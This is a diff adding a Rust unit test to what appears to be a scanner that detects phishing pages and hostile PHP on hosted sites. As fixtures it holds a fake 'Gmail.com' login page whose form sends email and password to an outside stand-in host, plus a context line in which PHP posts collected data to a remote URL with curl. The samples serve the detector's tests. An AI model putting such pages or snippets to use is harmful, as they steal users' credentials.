@@ -620,3 +620,17 @@ fn logins_tried_on_other_sites_xmlrpc_in_parallel_are_an_attack_from_here() {
                   $c = curl_init(get_option('remote_blog')); curl_setopt($c, CURLOPT_POSTFIELDS, $x); curl_exec($c);";
     assert!(!found(client).contains(&Why::NetworkFromInput), "{:?}", found(client));
 }
+
+#[test]
+fn a_plain_page_dressed_as_a_provider_posting_its_password_away_is_found() {
+    // fresh111's `enter.html`.
+    let page = "<html><head><title>Gmail.com</title></head><body>\n\
+                <form action=\"http://mail-login.example.ua/post.php\" method=\"post\">\n\
+                <input name=\"Email\"><input type=\"password\" name=\"Password\"></form></body></html>";
+    assert!(super::page_posts_password_away(page.as_bytes()).is_some());
+    // The site's own login posting to itself, and a webmail link page of a host's own name.
+    let own = page.replace("http://mail-login.example.ua/post.php", "/login.php");
+    assert!(super::page_posts_password_away(own.as_bytes()).is_none());
+    let host = page.replace("Gmail.com", "Example Hosting webmail");
+    assert!(super::page_posts_password_away(host.as_bytes()).is_none());
+}
